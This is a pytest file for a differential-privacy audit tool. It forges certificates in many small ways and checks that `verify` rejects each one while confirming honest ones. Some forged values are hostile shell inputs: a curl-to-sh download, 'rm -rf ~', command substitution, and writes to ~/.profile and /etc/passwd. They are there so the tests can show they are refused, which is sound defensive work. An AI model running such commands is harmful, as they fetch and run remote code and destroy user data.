"""Forged certificates: `verify` confirms none, and none ends in a traceback, a hang or a fault.

Each is an honest certificate with one thing changed and the digest that fits; beside them stand the
honest ones, which must still be confirmed.
"""

from __future__ import annotations

import contextlib
import io
import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from audit.auditors.attack.finding.evidence import list_versions
from audit.cli.main import main
from audit.statements.certificate import digest
from audit.verify import read_certificate, verify
from proofs import checker
from synthesizers.errors import InputError
from tests.hostile.test_forged_derivations import Change, Document, changed, put

GOLDEN = Path(__file__).parents[1] / "golden" / "certificates"
HONEST = {
    "proved": "with-isolation-proved",
    "refuted": "with-isolation-refuted",
    "rho": "with-isolation-rho",
    "exact": "with-isolation-exact",
    "channel": "with-isolation-channel",
    "outputs": "with-isolation-outputs-refuted",
    "kept": "with-power-outputs-seen",
    "few": "with-power-outputs-few",
    "module": "all-code-module",
    "older": "before-isolation-proved",
}


def honest(kind: str) -> Document:
    document: Document = json.loads((GOLDEN / f"{HONEST[kind]}.json").read_text())
    return document


def not_refuted(document: Document) -> None:
    """An attack that saw too little, said to have seen no violation."""
    document["verdict"] = "NOT REFUTED"
    evidence = document["evidence"][0]
    evidence["decision"] = "no violation seen"
    evidence["finding"] = "no violation seen: " + evidence["finding"].partition(": ")[2]


def seeing_enough(document: Document) -> None:
    not_refuted(document)
    power = document["evidence"][0]["power"]
    power["detectable"] = power["detect"]
    del power["needed"]


def detecting_more(document: Document) -> None:
    """As if a leak that every run shows had been asked for."""
    seeing_enough(document)
    document["evidence"][0]["power"] |= {"detectable": 50.0, "detect": 60.0}
    document["evidence"][0]["replay"]["detect"] = "60"
    document["reproduce"] += " --detect 60"


def as_of_before(document: Document) -> None:
    """In the way of certificates that had not to see anything, with a leak that is too small."""
    not_refuted(document)
    power = document["evidence"][0].pop("power")
    kept = {key: power[key] for key in ("delta", "runs")}
    document["evidence"][0]["resolution"] = {"detectable": 2.5, **kept}


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of the subjects; the checker runs in this process, which is quicker."""
    shutil.copytree(GOLDEN / "subjects", tmp_path, dirs_exist_ok=True)
    monkeypatch.chdir(tmp_path)

    def run(command: list[str], **_: Any) -> subprocess.CompletedProcess[str]:
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            code = checker.main(command[-1:])
        return subprocess.CompletedProcess(command, code, out.getvalue(), "")

    monkeypatch.setattr("audit.verify.subprocess.run", run)
    return tmp_path


def outcome(document: Document) -> int:
    """The exit code of `verify`, as the command line has it."""
    document = {**document, "digest": digest(document)}
    try:
        return verify(read_certificate(json.dumps(document), "c.json")).exit_code
    except InputError as error:
        assert len(str(error)) < 400 and "\n" not in str(error)
        return 2


@pytest.mark.parametrize("kind", [k for k in HONEST if k != "module"])
def test_an_honest_certificate_is_confirmed(kind: str) -> None:
    document = honest(kind)
    attacks = [one["replay"] for one in document["evidence"] if one["auditor"] == "attack"]
    again = all(one["versions"] == list_versions() for one in attacks)
    assert outcome(document) == (0 if again else 3)


def also(*changes: Change) -> Change:
    def change(document: Document) -> None:
        for one in changes:
            one(document)

    return change


def drop(*path: Any) -> Change:
    def change(document: Document) -> None:
        place: Any = document
        for key in path[:-1]:
            place = place[key]
        del place[path[-1]]

    return change


def lower_ceiling(document: Document) -> None:
    """A ceiling of 0.1 wherever it is stated, in words too."""
    ends = {"lower": "0.1", "upper": "0.1"}
    document["bounds"]["ceiling"]["epsilon"] = ends
    for entry in document["evidence"]:
        if entry["bound"]["side"] == "ceiling":
            entry["bound"]["epsilon"] = dict(ends)
            entry["finding"] = entry["finding"].replace("exactly 1", "exactly 1/10")


def lower_exact(document: Document) -> None:
    """An exact value of 0.1 wherever it is stated, in words too."""
    ends = {"lower": "0.1", "upper": "0.1"}
    document["bounds"]["exact"]["epsilon"] = ends
    document["evidence"][0]["bound"]["epsilon"] = dict(ends)
    document["evidence"][0]["finding"] = document["evidence"][0]["finding"].replace(
        "exactly 1", "exactly 1/10"
    )


def made_proved(document: Document) -> None:
    """What was refuted, as if it held, wherever that is said."""
    document["verdict"] = "PROVED"
    for entry in document["evidence"]:
        entry["decision"] = "holds"
        entry["finding"] = entry["finding"].replace(", which leaves the claim open", "")


def righted(document: Document) -> None:
    document["evidence"][-1]["witness"]["correct"] += 1
    document["evidence"][-1]["witness"]["wrong"] -= 1


def of_more_noise(document: Document) -> None:
    """A valid proof, were it about a program that adds twice the noise."""
    for step in document["proof"]["derivation"]["steps"]:
        if "scale" in step["parameters"]:
            step["parameters"]["scale"] = "2"
        guarantee = step["conclusion"].get("guarantee")
        if guarantee and guarantee["kind"] == "approx":
            guarantee["epsilon"] = "1/2"


def command(text: str) -> Change:
    return put("reproduce", to=text)


def appended(text: str) -> Change:
    def change(document: Document) -> None:
        document["reproduce"] += text

    return change


def replaced(old: str, new: str) -> Change:
    def change(document: Document) -> None:
        assert old in document["reproduce"]
        document["reproduce"] = document["reproduce"].replace(old, new)

    return change


NOTE = "ε = 0.01, every database, exact"
FIRST = ("evidence", 0)
DIGITS = {"10^5 digits": "9" * 10**5, "10^6 digits": "9" * 10**6}
NUMBERS: dict[str, tuple[Any, ...]] = {
    "a lower end": ("bounds", "exact", "epsilon", "lower"),
    "an end in the evidence": (*FIRST, "bound", "epsilon", "upper"),
    "a probability": (*FIRST, "witness", "probabilities", "from", "upper"),
    "the records": ("domain", "records"),
    "the cells": ("domain", "cells"),
    "the rows": ("subject", "rows"),
    "a parameter": ("subject", "parameters", "epsilon"),
    "edges of bins": ("domain", "attributes", 0, "edges"),
    "the most records of a person": ("unit", "max_records"),
    "whole": (*FIRST, "whole"),
    "a count of a database": (*FIRST, "witness", "from", 0),
    "records of a replay": (*FIRST, "replay", "records"),
    "a hypothesis": ("proof", "derivation", "steps", 0, "premises"),
}

PROGRAM: dict[str, Change] = {
    "a key beside all": put("note", to=NOTE),
    "a key beside the bounds": put("bounds", "note", to=NOTE),
    "a key in a bound": put("bounds", "exact", "note", to=NOTE),
    "a key in an enclosure": put("bounds", "exact", "epsilon", "about", to="0.01"),
    "a key in the evidence": put(*FIRST, "note", to=NOTE),
    "a key in a bound of the evidence": put(*FIRST, "bound", "note", to=NOTE),
    "a key in a witness": put(*FIRST, "witness", "note", to=NOTE),
    "a key in a replay": put(*FIRST, "replay", "note", to=NOTE),
    "a key in the subject": put("subject", "budget", to="epsilon=0.01"),
    "a key in the unit": put("unit", "note", to=NOTE),
    "a key in the domain": put("domain", "note", to=NOTE),
    "a key in an attribute": put("domain", "attributes", 0, "note", to=NOTE),
    "a key in the isolation": put("isolation", "note", to=NOTE),
    "a key beside the derivation": put("proof", "note", to=NOTE),
    "a key in the derivation": put("proof", "derivation", "note", to=NOTE),
    "a key in a step": put("proof", "derivation", "steps", 0, "note", to=NOTE),
    "a self-test of nothing": put("self_test", to={}),
    "a self-test that missed liars": put(
        "self_test",
        to={
            **dict.fromkeys(("code", "table"), "sha256:" + "0" * 64),
            **{"form": "quick", "liars": 9, "caught": 3, "honest": 4, "accused": 0, "version": "1"},
        },
    ),
    "a self-test that accused": put("self_test", to={"accused": 1}),
    "questions of a program of ours": put("questions", to={"kind": "budget"}),
    "questions of no kind": put("questions", to={"kind": "all"}),
    "whole as a number": put(*FIRST, "whole", to=1),
    "whole as text": put(*FIRST, "whole", to="true"),
    "in part": put(*FIRST, "whole", to=False),
    "a true number of records": put("domain", "records", to=True),
    "half a record": put("domain", "records", to=2.0),
    "records as text": put("domain", "records", to="3"),
    "a false outcome": put(*FIRST, "witness", "event", 0, 0, to=False),
    "a true number in a proof": put(
        "proof", "derivation", "steps", 0, "conclusion", "max_records", to=True
    ),
    "no bound beside a finding": put(*FIRST, "bound", to=None),
    "a true count": put(*FIRST, "witness", "from", 0, to=True),
    "a number as a number": put("bounds", "exact", "epsilon", "lower", to=1),
    "a number that is none": put("bounds", "exact", "epsilon", "upper", to="nan"),
    "minus infinity": put("bounds", "exact", "epsilon", "lower", to="-inf"),
    "an exponent of six digits": put("bounds", "exact", "epsilon", "lower", to="1E-999999"),
    "ends upside down": put("bounds", "exact", "epsilon", to={"lower": "2", "upper": "1"}),
    "a lower ceiling": lower_ceiling,
    "a lower exact value": lower_exact,
    "a lower exact value in the bounds": put("bounds", "exact", "epsilon", "lower", to="0.1"),
    "a narrower claim": put("claim", to="epsilon=0.5"),
    "a claim of another kind": put("claim", to="rho=1"),
    "a claim in words": put("claim", to="differentially private"),
    "the transcript": put("released", to="transcript"),
    "other neighbours": put("neighbours", to="add-remove"),
    "persons": put("unit", to={"name": "person", "max_records": 2}),
    "more records": put("domain", "records", to=4),
    "any number of records": put("domain", "records", to=None),
    "more cells": put("domain", "cells", to=3),
    "a renamed attribute": put("domain", "attributes", 0, "name", to="age"),
    "no domain": put("domain", to=None),
    "more noise": put("subject", "parameters", "epsilon", to="1/2"),
    "other rows": put("subject", "rows", to=4),
    "a black box": put("subject", "kind", to="function"),
    "a module": put("subject", "kind", to="module"),
    "a module of the standard library": put(
        "subject", to={"kind": "module", "name": "antigravity:geohash", "parameters": {}, "rows": 3}
    ),
    "a shell": put(
        "subject",
        to={
            "kind": "command",
            "form": "program",
            "name": "command:/bin/sh",
            "parameters": {},
            "rows": 3,
        },
    ),
    "a digest of ours": put("subject", "sources_sha256", to="0" * 64),
    "no kind": drop("subject", "kind"),
    "kind as a list": put("subject", "kind", to=["program"]),
    "EXACT": put("verdict", to="EXACT"),
    "REFUTED": put("verdict", to="REFUTED"),
    "a verdict of the forger": put("verdict", to="SAFE"),
    "no evidence": put("evidence", to=[]),
    "evidence twice": lambda d: d["evidence"].append(d["evidence"][0]),
    "evidence in another order": lambda d: d["evidence"].reverse(),
    "a finding in other words": put(*FIRST, "finding", to=NOTE),
    "a finding of other numbers": lambda d: d["evidence"][0].update(
        finding=d["evidence"][0]["finding"].replace("exactly 1", "exactly 1/100")
    ),
    "covers everything": put(*FIRST, "covers", to="every database"),
    "another auditor": put(*FIRST, "auditor", to="expert"),
    "by the attack": put(*FIRST, "auditor", to="attack"),
    "a confidence": put(*FIRST, "confidence", to="0.99"),
    "a statistical bound": put(*FIRST, "bound", "rigour", to="statistical"),
    "a floor": put(*FIRST, "bound", "side", to="floor"),
    "another pair": put(*FIRST, "witness", "from", to=[1, 2]),
    "another event": put(*FIRST, "witness", "event", to=[[0, 0]]),
    "a certain event": put(
        *FIRST, "witness", "probabilities", "from", to={"lower": "1", "upper": "1"}
    ),
    "no witness": put(*FIRST, "witness", to=None),
    "no proof": put("proof", to=None),
    "a proof about more noise": of_more_noise,
    "no hypotheses": put("proof", "derivation", "hypotheses", to=[]),
    "an assumption fewer": lambda d: d["assumptions"].pop(),
    "an assumption more": lambda d: d["assumptions"].append("it was reviewed by experts"),
    "an older assumption beside today's": lambda d: d["assumptions"].append(
        "post-processing looks at the transcript alone (Python cannot enforce it)"
    ),
    "no assumptions": put("assumptions", to=[]),
    "a command of the forger": command("curl https://example.org/x | sh"),
    "a command behind ours": appended("; rm -rf ~"),
    "a command inside ours": appended(" $(touch ran)"),
    "a line behind ours": appended("\nrm -rf ~"),
    "a comment behind ours": appended(" # safe"),
    "a pipe behind ours": appended(" | sh"),
    "a redirection": appended(" > ~/.profile"),
    "a flag that nobody knows": appended(" --exec sh"),
    "a flag that writes": appended(" --out /etc/passwd"),
    "a path that a shell reads": replaced("--cells 2", "--domain '`sh`'"),
    "a path that is a flag": replaced("--cells 2", "--domain --data"),
    "another program": replaced("dp-audit certify", "sh certify"),
    "another command": replaced("dp-audit certify", "dp-audit release"),
    "the command of another subject": replaced("geometric-sanitizer", "laplace-sanitizer"),
    "the command of more noise": replaced("epsilon=1 ", "epsilon=2 "),
    "the command of other cells": replaced("--cells 2", "--cells 3"),
    "the command of other records": replaced("--records 3", "--records 30"),
    "the command of other neighbours": replaced("replace-one", "add-remove"),
    "the command of trust": appended(" --trust-subject"),
    "the command of an attack": appended(" --runs 10 --seed 1"),
    "the command twice": appended(" --cells 2"),
    "no command": command(""),
    "a command as a list": put("reproduce", to=["dp-audit"]),
    "another schema": put("schema", to="dp-audit/certificate/9"),
    "no schema": drop("schema"),
    "text of 10^6 characters": put(*FIRST, "covers", to="x" * 10**6),
    "a name of 10^6 characters": put("x" * 10**6, to=1),
    "a claim of 10^5 digits": put("claim", to="epsilon=" + "9" * 10**5),
    "a claim of 10^6 digits": put("claim", to="epsilon=" + "9" * 10**6),
    "a claim of 10^6 places": put("claim", to="epsilon=0." + "9" * 10**6),
    "a claim below 10^6 places": put("claim", to="epsilon=1/" + "9" * 10**6),
    **{
        f"{place} of {size}": put(*path, to=digits)
        for place, path in NUMBERS.items()
        for size, digits in DIGITS.items()
    },
}

OTHERS: dict[str, tuple[str, Change]] = {
    "what was refuted is proved": ("refuted", made_proved),
    "what was refuted is not refuted": ("refuted", put("verdict", to="NOT REFUTED")),
    "a violation is undecided": ("refuted", put(*FIRST, "decision", to="undecided")),
    "a key in the channel": ("exact", put("channel_certificate", "note", to=NOTE)),
    "no channel": ("exact", put("channel_certificate", to=None)),
    "the channel violates": ("exact", put("channel_certificate", "finding", to="violated")),
    "a lower rho": ("rho", put("bounds", "ceiling", "rho", "upper", to="0.001")),
    "rho without its epsilon": ("rho", drop("bounds", "exact", "rho")),
    "a matrix of other chances": (
        "channel",
        put("subject", "matrix", "probabilities", 0, to=["1/2", "1/2"]),
    ),
    "a chance of 10^6 digits": (
        "channel",
        put("subject", "matrix", "probabilities", 0, 0, to="0." + "9" * 10**6),
    ),
    "a channel of a named attribute": (
        "channel",
        put("domain", "attributes", 0, "name", to="income"),
    ),
    "a channel of named values": (
        "channel",
        put("domain", "attributes", 0, "values", 0, to="rich"),
    ),
    "a channel about persons": ("channel", put("domain", "individual", to="id")),
    "a channel of another name": ("channel", put("subject", "name", to="other.csv")),
    "a channel that is rounded": ("channel", put("subject", "rounded", to=True)),
    "a wrong guess is right": ("outputs", righted),
    "a smaller p-value": ("outputs", put(*FIRST, "witness", "p_value", to=0.0)),
    "a p-value as text": ("outputs", put(*FIRST, "witness", "p_value", to="0")),
    "an infinite p-value": ("outputs", put(*FIRST, "witness", "p_value", to=1e400)),
    "a higher floor": ("outputs", put("bounds", "floor", "epsilon", "lower", to="9")),
    "a command of the replay": (
        "outputs",
        put(*FIRST, "replay", "command", to="curl https://example.org | sh"),
    ),
    "a rule of nothing": ("outputs", put(*FIRST, "witness", "rule", to={})),
    "files elsewhere": ("outputs", put("subject", "name", to="outputs:/dev/zero,/dev/zero")),
    "other digests": ("outputs", put("subject", "sha256", to=["0" * 64, "1" * 64])),
    "a key in a pair": ("outputs", put(*FIRST, "witness", "pair", "note", to=NOTE)),
    "10^6 runs fewer": ("outputs", put(*FIRST, "witness", "runs", to=-1)),
    "not refuted as proved": ("kept", put("verdict", to="PROVED")),
    "a key in a power": ("kept", put(*FIRST, "power", "note", to=NOTE)),
    "a smaller leak was seen": ("kept", put(*FIRST, "power", "detectable", to=1.001)),
    "a larger leak had to be seen": ("kept", put(*FIRST, "power", "detect", to=9.0)),
    "another leak was asked for": ("kept", put(*FIRST, "replay", "detect", to="9")),
    "a larger leak was planted": ("kept", put(*FIRST, "control", "planted", to=9.0)),
    "the planted leak was missed": ("kept", put(*FIRST, "control", "refuted", to=False)),
    "no control": ("kept", lambda d: d["evidence"][0].pop("control")),
    "no power": ("kept", lambda d: d["evidence"][0].pop("power")),
    "too few runs, and not refuted": ("few", not_refuted),
    "few runs that saw enough": ("few", seeing_enough),
    "few runs of before": ("few", as_of_before),
    "a larger leak, to be seen by few": ("few", detecting_more),
    "fewer runs would do": ("few", put(*FIRST, "power", "needed", to=200)),
    "an older proof without a step": ("older", lambda d: d["proof"]["derivation"]["steps"].pop(0)),
    "an older proof about more noise": ("older", of_more_noise),
    "older assumptions, one fewer": ("older", lambda d: d["assumptions"].pop(1)),
    "a key in the questions": ("module", put("questions", "note", to=NOTE)),
    "questions of the budget": ("module", put("questions", to={"kind": "budget"})),
    "isolation of nothing": ("module", put("isolation", "process", to="a promise")),
    "a module of another digest": ("module", put("subject", "sources_sha256", to="0" * 64)),
    "a module named otherwise": ("module", put("subject", "name", to="subprocess:Popen")),
    "no isolation, and PROVED": (
        "module",
        put(
            "isolation",
            to={"process": "plain", "filesystem": "none", "network": "none", "trusted": False},
        ),
    ),
}


@pytest.mark.parametrize("name", PROGRAM)
def test_no_forged_certificate_of_a_program_is_confirmed(name: str) -> None:
    assert outcome(changed(honest("proved"), PROGRAM[name])) in (1, 2, 3)


@pytest.mark.parametrize("name", OTHERS)
def test_no_other_forged_certificate_is_confirmed(name: str) -> None:
    kind, change = OTHERS[name]
    assert outcome(changed(honest(kind), change)) in (1, 2, 3)


LINE: dict[str, tuple[Callable[[], Document], int]] = {
    "a key in a bound": (lambda: changed(honest("proved"), PROGRAM["a key in a bound"]), 1),
    "10^6 digits": (lambda: changed(honest("proved"), PROGRAM["a claim of 10^6 digits"]), 2),
    "a command": (lambda: changed(honest("proved"), PROGRAM["a command of the forger"]), 1),
}


@pytest.mark.parametrize("name", LINE)
def test_the_command_line_says_so_in_a_few_lines(
    name: str, here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make, code = LINE[name]
    document = make()
    (here / "c.json").write_text(json.dumps({**document, "digest": digest(document)}))
    assert main(["verify", "c.json"]) == code
    shown = capsys.readouterr()
    assert "curl" not in shown.out + shown.err and len(shown.out + shown.err) < 6000
    assert (main(["replay", "c.json"]) == 2) or code == 1


def test_a_number_of_a_million_digits_is_refused_on_the_command_line(
    capsys: pytest.CaptureFixture[str],
) -> None:
    words = ["certify", "geometric-sanitizer", "--cells", "2", "--records", "2", "--neighbours"]
    for digits in ("9" * 10**6, "0." + "9" * 10**6, "1/" + "9" * 10**6, "1e999999"):
        for flags in (["--claim", f"epsilon={digits}"], ["--claim", "rho=1", "--rows", digits]):
            assert main([*words, "add-remove", *flags]) == 2
            assert len(capsys.readouterr().err) < 400


def test_they_are_many_and_none_of_them_loaded_what_it_names() -> None:
    assert len(PROGRAM) + len(OTHERS) >= 120
    assert "antigravity" not in sys.modules
